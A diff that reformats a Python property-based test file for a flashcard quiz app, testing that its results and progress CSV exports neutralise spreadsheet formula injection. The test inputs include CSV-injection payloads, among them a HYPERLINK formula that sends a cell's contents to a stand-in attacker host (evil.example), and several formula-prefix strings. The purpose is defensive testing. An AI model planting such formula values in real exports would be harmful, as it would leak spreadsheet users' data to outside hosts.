@@ -17,8 +17,21 @@ from kdquiz.core.store import GameRecord, ProgressStore, store_path
 
 names = st.one_of(
     st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30),
-    st.sampled_from(['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
-                     "\t=1", "\r=1", "'=1", "''", "'", "=", "Min-ji"]),
+    st.sampled_from(
+        [
+            '=HYPERLINK("http://evil.example/?"&A1,"click")',
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "'=1",
+            "''",
+            "'",
+            "=",
+            "Min-ji",
+        ]
+    ),
 )
 
 
@@ -37,15 +50,29 @@ def test_a_safe_cell_is_inert_and_restores_exactly(name):
     assert safe_cell(5) == 5 and safe_cell(-5) == -5  # numbers are numbers
 
 
-@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(
+    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
 @given(players=st.lists(names, min_size=1, max_size=3), deck=names)
 def test_results_csv_has_no_live_formula(tmp_path_factory, capsys, players, deck):
     data = tmp_path_factory.mktemp("results")
     when = datetime(2025, 3, 1, 9, 0, tzinfo=UTC)
     store = ProgressStore(store_path(data), clock=lambda: when, backup=False)
     for player in players:
-        store.save_game_result(GameRecord((deck or "d",), "classic", player, when, when, 10, 1, 1, 1,
-                                          (((deck or "d", "=card", ""), True),)))
+        store.save_game_result(
+            GameRecord(
+                (deck or "d",),
+                "classic",
+                player,
+                when,
+                when,
+                10,
+                1,
+                1,
+                1,
+                (((deck or "d", "=card", ""), True),),
+            )
+        )
     store.close()
     capsys.readouterr()
     assert main(["results", "--data-dir", str(data)]) == 0
@@ -58,8 +85,15 @@ def test_progress_csv_neutralises_answers_and_reads_them_back(tmp_path):
     clock = FakeClock()
     store = open_store(tmp_path, clock)
     answer = '=HYPERLINK("http://evil.example","x")'
-    store.log_answer(("-deck", "@card", ""), mode="practice", rating=3, correct=True,
-                     response_ms=100, when=clock(), answer_text=answer)
+    store.log_answer(
+        ("-deck", "@card", ""),
+        mode="practice",
+        rating=3,
+        correct=True,
+        response_ms=100,
+        when=clock(),
+        answer_text=answer,
+    )
     out = io.StringIO()
     export_progress(store, out, "csv")
     assert all(is_inert(cell) for row in cells_of(out.getvalue()) for cell in row)
